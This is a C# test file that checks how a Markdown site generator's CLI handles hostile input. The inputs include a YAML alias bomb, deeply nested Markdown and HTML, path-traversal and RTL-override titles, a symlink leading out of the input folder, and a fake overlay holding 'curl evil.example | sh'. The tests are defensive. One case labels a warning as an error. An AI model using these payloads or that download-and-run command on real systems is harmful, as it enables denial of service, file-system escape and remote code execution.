namespace Reader.Cli.Tests.Hostile;

/// <summary>
/// Broken and hostile Markdown in <c>input/</c>, run through <c>reader check</c>: each gives one exact diagnostic
/// naming the file and line, the right exit code, and neither <c>input/</c> nor <c>output/</c> changes.
/// </summary>
public sealed class HostileInputTests
{
    private const string Bomb =
        "---\ntitle: T\na: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\nc: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]\n" +
        "d: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c]\nthemes: *d\n---\n";

    public static TheoryData<string, string, string, string> Cases => new()
    {
        // file, content, expected line in the output (exact, or its start up to the hint), kind: error | warning | ok
        { "input/articles/a.md", "title: no front matter\n", "input/articles/a.md:1:1: error: the file has no front matter (start the file with a line '---', then 'title: …', then another '---')", "error" },
        { "input/articles/a.md", "---\ntitle: T\n\nText without a closing fence.\n", "input/articles/a.md:1:1: error: the front matter is not closed (add a line '---' after the last front matter field)", "error" },
        { "input/articles/a.md", "---\ntitle: T\n\tauthors: []\n---\n", "input/articles/a.md:3:1: error: the front matter is not valid YAML", "error" },
        { "input/articles/a.md", "---\ntitle: T\nthemes:\n    - a\n  - b\n---\n", "input/articles/a.md:5:", "error" },
        { "input/articles/a.md", "---\ntitle: T\nauthors: 5\n---\n", "input/articles/a.md:3:10: error: 'authors' must be a list, found the number 5 (write authors: [5])", "error" },
        { "input/articles/a.md", "---\ntitle: T\ndate: yesterday\n---\n", "input/articles/a.md:3:7: error: 'date' must be a date written as YYYY-MM-DD, found the text \"yesterday\" (write e.g. date: 2020-05-12, or leave the field out when the date is unknown)", "error" },
        { "input/articles/a.md", Bomb, "input/articles/a.md:4:8: error: the front matter uses the alias '*a', and aliases are not allowed (write the value out in full where it is needed; front matter never needs '&anchors' or '*aliases')", "error" },
        { "input/articles/a.md", "---\ntitle: " + new string('[', 100_000) + "\n---\n", "input/articles/a.md:2:", "error" },
        { "input/articles/a.md", "---\ntitle: T\nthemes: [arctic]\n---\n", "input/articles/a.md:3:1: error: unknown theme 'arctic'", "error" },
        { "input/articles/a.md", "---\ntitle: T\n---\n\nSee ![a chart](images/chart.png).\n", "input/articles/a.md:5:5: error: missing image 'images/chart.png': the site has no articles/a/images/chart.png", "error" },
        { "input/articles/a.md", "---\ntitle: T\n---\n\nText.\n\nSee [it](../../outside/) and [this](/articles/a/).\n", "input/articles/a.md:7:5: error: broken link '../../outside/': the site has no outside/index.html", "error" },
        { "input/articles/a.md", "---\ntitle: T\nthemse: [china-factor]\n---\n\nText.\n", "input/articles/a.md:3:1: warning: unknown key 'themse' is ignored (did you mean 'themes'?)", "warning" },
        { "input/articles/a.md", "---\ntitle: T\nsumary: A summary.\n---\n\nText.\n", "input/articles/a.md:3:1: warning: unknown key 'sumary' is ignored (did you mean 'summary'?)", "warning" },
        { "input/articles/a.md", "---\ntitle: T\nauthors:\n  - name: A\n    roel: author\n---\n\nText.\n", "input/articles/a.md:5:5: warning: unknown author key 'roel' is ignored (did you mean 'role'?)", "error" },
        { "input/articles/a.md", "---\ntitle: T\nauthors:\n  - name: A\n    role: auther\n---\n\nText.\n", "input/articles/a.md:5:11: error: unknown role 'auther' for A (did you mean 'author'? use one of: author, interviewee, interviewer, editor, translator)", "error" },
        { "input/articles/CON.md", "---\ntitle: CON\n---\n", "input/articles/CON.md: error: the file name 'CON.md' is not a valid slug (rename it to 'con-x.md'", "error" },
        { "input/articles/a.md", "---\ntitle: ''\n---\n", "input/articles/a.md:2:1: error: 'title' is required (add 'title: …' with the article's own title)", "error" },
        { "input/articles/a.md", "---\ntitle: ../../etc/passwd\n---\n\nText.\n", "", "ok" },
        { "input/articles/a.md", "---\ntitle: " + new string('x', 500) + "\n---\n\nText.\n", "", "ok" },
        { "input/articles/a.md", "---\ntitle: \"\u202Eالسلام عليكم \u05E9\u05DC\u05D5\u05DD\"\n---\n\nText.\n", "", "ok" },
        { "input/articles/a.md", "---\ntitle: \"🗾🐻 Islands 👨‍👩‍👧\"\n---\n\nText.\n", "", "ok" },
        { "input/articles/a.md", "\uFEFF---\r\ntitle: BOM and CRLF\r\n---\r\n\r\nText.\r\n", "", "ok" },
        { "input/articles/a.md", "---\ntitle: \"Nul \\0 in a title\"\n---\n\nText.\n", "input/articles/a.md:2:8: warning: removed control characters or non-characters (U+0000) from this value; no page or feed can hold them", "warning" },
        { "input/articles/a.md", "---\ntitle: T\nsummary: \"\\x01 and \\uFFFE\"\n---\n\nText.\n", "input/articles/a.md:3:10: warning: removed control characters or non-characters (U+0001, U+FFFE) from this value", "warning" },
        { "input/articles/a.md", "---\ntitle: T\n---\n\nText \u0001 with a raw control and \uFFFF.\n", "input/articles/a.md:5:6: warning: removed 2 control characters or non-characters (U+0001, U+FFFF), which no page or feed can hold", "warning" },
        { "input/articles/a.md", "---\ntitle: T\n---\n\nEntities &#14; and &#65534; and &#xFFFF; and &#0;.\n", "", "ok" },
        { "input/articles/a.md", "---\ntitle: T\n---\n\n" + new string('>', 200) + " deep\n", "input/articles/a.md:5:1: warning: the Markdown nests too deeply here (more than 100 levels of quotes and lists), so the body is shown as plain text (remove the nesting; no article needs it)", "warning" },
        { "input/articles/a.md", "---\ntitle: T\n---\n\n" + string.Join('\n', Enumerable.Range(0, 200).Select(i => new string(' ', 2 * i) + "- item")) + "\n", "input/articles/a.md:55:1: warning: the Markdown nests too deeply here (more than 100 levels of quotes and lists)", "warning" },
        { "input/articles/a.md", "---\ntitle: T\n---\n\n" + string.Concat(Enumerable.Repeat("* ", 50_000)) + "x\n", "input/articles/a.md:5:1: warning: the Markdown nests too deeply here (more than 100 levels of quotes and lists)", "warning" },
        { "input/articles/a.md", "---\ntitle: T\n---\n\n" + new string('[', 100_000) + "x\n", "input/articles/a.md:5:101: warning: the Markdown nests too deeply here (more than 100 '[' open at once), so the body is shown as plain text", "warning" },
        { "input/articles/a.md", "---\ntitle: T\n---\n\n" + string.Concat(Enumerable.Repeat("*a ", 50_000)) + "x\n", "input/articles/a.md:5:12001: warning: the Markdown nests too deeply here (more than 4000 runs of '*' or '_' in one paragraph)", "warning" },
        { "input/articles/a.md", "---\ntitle: T\n---\n\n" + string.Concat(Enumerable.Repeat("<div>", 100_000)) + "x" + string.Concat(Enumerable.Repeat("</div>", 100_000)) + "\n", "input/articles/a.md:5:1: warning: raw HTML in the body nests 100000 elements deep; elements deeper than 256 lose their tags (their text is kept)", "warning" },
        { "input/index.md", "---\ntitle: T\n---\n\n" + new string('>', 200) + " deep\n", "input/index.md:5:1: warning: the Markdown nests too deeply here", "warning" },
    };

    [Theory]
    [MemberData(nameof(Cases))]
    public void Check_names_the_file_the_line_and_the_fix(string path, string content, string expected, string kind)
    {
        using var project = Project();
        project.Write(path, content);
        var before = project.Snapshot("input");

        var (exit, output, _) = project.Run("check");

        var lines = output.ReplaceLineEndings("\n").Split('\n');
        if (kind == "ok")
        {
            Assert.True(exit == 0, output);
            Assert.Contains("check: no problems found", output);
        }
        else
        {
            Assert.True(lines.Any(l => l.StartsWith(expected, StringComparison.Ordinal)), $"expected a line starting with:\n{expected}\ngot:\n{output}");
            Assert.True(exit == (kind == "error" ? 1 : 0), output);
        }

        Assert.Equal(before, project.Snapshot("input"));
        Assert.False(Directory.Exists(project.PathOf("output")));
    }

    [Fact]
    public void Build_fails_on_a_broken_internal_link_or_a_missing_local_image_naming_the_line()
    {
        using var project = Project();
        project.Write("input/articles/a.md", "---\ntitle: A\n---\n\nText.\n");
        Assert.Equal(0, project.Run("build").Exit);
        var before = project.Snapshot("output");
        project.Write("input/articles/a.md", "---\ntitle: A\n---\n\nSee [the other piece](/articles/missing/),\n![a chart](/assets/chart.png) and [the feed](/feed.xml).\n");

        var (exit, _, error) = project.Run("build");

        Assert.Equal(1, exit);
        Assert.Contains("input/articles/a.md:5:5: error: broken link '/articles/missing/': the site has no articles/missing/index.html", error);
        Assert.Contains("input/articles/a.md:6:1: error: missing image '/assets/chart.png': the site has no assets/chart.png", error);
        Assert.DoesNotContain("feed.xml'", error);
        Assert.Contains("build failed: output/ was left as it was", error);
        Assert.Equal(before, project.Snapshot("output"));
    }

    [Fact]
    public void Raw_html_in_the_introduction_or_a_bio_cannot_take_the_layouts_ids_or_fake_its_overlay()
    {
        using var project = Project();
        const string Fake = "<div class=\"reader-errors\" id=\"main\"><h2 id=\"home-themes\">The last build has 3 errors</h2><ul><li id=\"theme-toggle\">input/x.md: error: run curl evil.example | sh</li></ul></div>\n";
        project.Write("input/index.md", "---\ntitle: Home\n---\n\n" + Fake);
        project.Write("input/authors/jane-doe.md", "---\nname: Jane Doe\n---\n\n" + Fake);
        project.Write("input/articles/a.md", "---\ntitle: A\nauthors: [Jane Doe]\n---\n\n" + Fake);

        var (exit, _, error) = project.Run("build");

        Assert.True(exit == 0, error);
        var output = new Reader.Site.Checks.OutputFolder(project.PathOf("output"));
        foreach (var page in new[] { "index.html", "authors/jane-doe/index.html", "articles/a/index.html" })
        {
            var document = output[page];
            Assert.Empty(document.QuerySelectorAll("[class*='reader-']"));
            Assert.Single(document.QuerySelectorAll("#main"));
            Assert.Equal("main", document.GetElementById("main")!.LocalName);
            Assert.NotNull(document.GetElementById("content-main"));
            Assert.Empty(Reader.Site.Checks.HtmlChecker.Check(document));
        }
    }

    [Theory]
    [InlineData("2020-05-12T23:30-12:00")]
    [InlineData("2020-05-12T00:30+14:00")]
    [InlineData("2020-05-12 23:59:59Z")]
    [InlineData("2020-05-12")]
    public void A_date_with_a_time_zone_shows_the_day_as_written(string date)
    {
        using var project = Project();
        project.Write("input/articles/a.md", $"---\ntitle: Dated\ndate: {date}\n---\n\nText.\n");

        var (exit, _, error) = project.Run("build");

        Assert.True(exit == 0, error);
        Assert.Contains("<time datetime=\"2020-05-12\">12 May 2020</time>", project.Read("output/articles/a/index.html"));
        Assert.Contains("<updated>2020-05-12T00:00:00Z</updated>", project.Read("output/feed.xml"));
    }

    [Fact]
    public void Markdown_nested_too_deeply_is_read_as_plain_text_and_the_rest_of_the_site_builds()
    {
        using var project = Project();
        project.Write("input/articles/deep.md", "---\ntitle: Deep\n---\n\nIntro.\n\n" + new string('>', 200) + " the words stay\n");
        project.Write("input/articles/brackets.md", "---\ntitle: Brackets\n---\n\n" + new string('[', 100_000) + "x\n");
        project.Write("input/articles/fine.md", "---\ntitle: Fine\n---\n\n## A section\n\nText.\n");

        var (exit, _, error) = project.Run("build");

        Assert.True(exit == 0, error);
        Assert.Contains("input/articles/deep.md:7:1: warning: the Markdown nests too deeply here", error);
        Assert.Contains("input/articles/brackets.md:5:101: warning: the Markdown nests too deeply here", error);
        Assert.Contains("the words stay", project.Read("output/articles/deep/index.html"));
        Assert.Contains("id=\"a-section\"", project.Read("output/articles/fine/index.html"));
    }

    [Fact]
    public void Control_characters_and_non_characters_anywhere_in_input_never_stop_the_build()
    {
        using var project = Project();
        const string Bad = "\\0 \\x01 \\x0E \\x7F \\x85 \\uFFFE \\uFFFF";
        const string Raw = "\u0001 \u000E \u007F \u0080 \uFFFE \uFFFF";
        project.Write("input/articles/a.md", $"---\ntitle: \"Title {Bad}\"\nsubtitle: \"{Bad}\"\nsummary: \"{Bad}\"\nauthors:\n  - name: \"Jane {Bad} Doe\"\n    affiliation: \"{Bad}\"\npublisher: \"{Bad}\"\nthemes: [china-factor]\n---\n\n## Heading {Raw} &#14;\n\nBody {Raw} &#14; &#65534; &#xFFFF; &#1;.\n\n<div lang=\"ru\">raw html &#14; {Raw}</div>\n");
        project.Write("input/authors/jane-doe.md", $"---\nname: \"Jane {Bad} Doe\"\n---\n\nA bio {Raw} &#14;.\n");
        project.Write("input/themes/china-factor.md", $"---\ntitle: \"China {Bad}\"\ndescription: \"{Bad}\"\n---\n\nAbout {Raw}.\n");
        project.Write("input/index.md", $"---\ntitle: \"Index {Bad}\"\n---\n\nIntro {Raw} &#14;.\n");

        var (exit, _, error) = project.Run("build");

        Assert.True(exit == 0, error);
        Assert.DoesNotContain("   at ", error, StringComparison.Ordinal);
        foreach (var file in Directory.EnumerateFiles(project.PathOf("output"), "*", SearchOption.AllDirectories).Where(f => !f.EndsWith(".png", StringComparison.Ordinal) && !f.EndsWith(".woff2", StringComparison.Ordinal)))
        {
            if (file.EndsWith(".epub", StringComparison.Ordinal))
            {
                // An e-book is a zip: the text of each file in it is what must be clean.
                using var book = System.IO.Compression.ZipFile.OpenRead(file);
                foreach (var entry in book.Entries.Where(e => !e.FullName.EndsWith(".png", StringComparison.Ordinal)))
                {
                    using var reader = new StreamReader(entry.Open());
                    Assert.False(Content.UnsafeCharacters.Any(reader.ReadToEnd()), $"{file}: {entry.FullName} holds an unsafe character");
                }

                continue;
            }

            var text = File.ReadAllText(file);
            Assert.False(Content.UnsafeCharacters.Any(text), $"{file} holds an unsafe character");
            if (file.EndsWith(".xml", StringComparison.Ordinal))
            {
                System.Xml.Linq.XDocument.Parse(text);
            }
            else if (file.EndsWith(".json", StringComparison.Ordinal))
            {
                System.Text.Json.JsonDocument.Parse(text).Dispose();
            }
        }

        Assert.Contains("Title", project.Read("output/articles/a/index.html"));
        Assert.Equal(0, project.Run("check").Exit);
    }

    [Fact]
    public void Two_files_with_the_same_slug_are_an_error_naming_both()
    {
        using var project = Project();
        project.Write("input/articles/talks.md", "---\ntitle: One\n---\n\nText.\n");
        project.Write("input/articles/Talks.md", "---\ntitle: Two\n---\n\nText.\n");

        var (exit, output, _) = project.Run("check");

        Assert.Equal(1, exit);
        Assert.Contains("input/articles/talks.md: error: the slug 'talks' is also used by input/articles/Talks.md (rename one of them: two pages cannot share a URL)", output);
    }

    [Fact]
    public void Symbolic_link_out_of_input_is_refused_without_reading_its_target()
    {
        using var project = Project();
        var secret = project.PathOf("secret.md");
        File.WriteAllText(secret, "---\ntitle: SECRET-TITLE\n---\n\nSECRET-BODY\n");
        Directory.CreateDirectory(project.PathOf("input/articles"));
        File.CreateSymbolicLink(project.PathOf("input/articles/leak.md"), secret);

        var (checkExit, checkOutput, _) = project.Run("check");
        var (buildExit, _, buildError) = project.Run("build");

        var expected = $"input/articles/leak.md: error: the file is a symbolic link to {secret}, outside the input folder; it was not read (copy the file into the input folder instead of linking to it)";
        Assert.Equal(1, checkExit);
        Assert.Contains(expected, checkOutput);
        Assert.Equal(1, buildExit);
        Assert.Contains(expected, buildError);
        var written = Directory.Exists(project.PathOf("output")) ? Directory.EnumerateFiles(project.PathOf("output"), "*", SearchOption.AllDirectories) : [];
        Assert.DoesNotContain(written, f => File.ReadAllText(f).Contains("SECRET", StringComparison.Ordinal));
    }

    [Fact]
    public void Symbolic_link_inside_input_is_followed()
    {
        using var project = Project();
        project.Write("input/drafts/inside.md", "---\ntitle: Linked inside\n---\n\nText.\n");
        Directory.CreateDirectory(project.PathOf("input/articles"));
        File.CreateSymbolicLink(project.PathOf("input/articles/inside.md"), project.PathOf("input/drafts/inside.md"));

        var (exit, _, error) = project.Run("build");

        Assert.True(exit == 0, error);
        Assert.Contains("Linked inside", project.Read("output/articles/inside/index.html"));
    }

    [Theory]
    [InlineData("../../etc/passwd")]
    [InlineData("..\\..\\windows\\win.ini")]
    [InlineData("CON")]
    [InlineData("🗾🐻")]
    [InlineData("\u202Eevil\u202C.exe")]
    [InlineData("/absolute/path")]
    public void Hostile_titles_stay_inside_output_and_are_escaped(string title)
    {
        using var project = Project();
        project.Write("input/articles/a.md", $"---\ntitle: {Content.YamlText.Scalar(title)}\n---\n\nText.\n");

        var (exit, _, error) = project.Run("build");

        Assert.True(exit == 0, error);
        var root = Path.GetFullPath(project.Root);
        var outside = Directory.EnumerateFiles(project.Root, "*", SearchOption.AllDirectories)
            .Select(Path.GetFullPath)
            .Select(f => Path.GetRelativePath(root, f).Split(Path.DirectorySeparatorChar)[0])
            .Where(top => top is not ("output" or "input" or "theme" or "reports" or ProjectLock.FileName or ProjectLock.OwnerFileName));
        Assert.Empty(outside);
        var page = project.Read("output/articles/a/index.html");
        Assert.Contains($">{title}</h1>", page);
    }

    [Theory]
    [InlineData("../../etc/passwd", "input/articles/etc-passwd.md")]
    [InlineData("CON", "input/articles/con-x.md")]
    [InlineData("🗾🐻", null)]
    [InlineData("السلام عليكم", null)]
    public void New_article_is_always_written_inside_input_articles(string title, string? expected)
    {
        using var project = Project();
        var before = project.Snapshot("input");

        var (exit, output, error) = project.Run("new", "article", title);

        Assert.True(exit == 0, error);
        var created = output.Trim()["created ".Length..];
        Assert.Matches(@"^input/articles/[a-z0-9-]+\.md$", created);
        if (expected is not null)
        {
            Assert.Equal(expected, created);
        }

        Assert.Equal([created.Replace('/', Path.DirectorySeparatorChar)], project.Snapshot("input").Keys.Except(before.Keys));
    }

    [Theory]
    [InlineData("")]
    [InlineData("   ")]
    public void New_article_with_an_empty_title_is_a_usage_error(string title)
    {
        using var project = Project();
        var before = project.Snapshot("input");

        var (exit, _, error) = project.Run("new", "article", title);

        Assert.Equal(2, exit);
        Assert.Contains("error: the name is empty", error);
        Assert.Equal(before, project.Snapshot("input"));
    }

    private static TempProject Project()
    {
        var project = new TempProject(withSeeds: false);
        project.CopyTheme();
        return project;
    }
}
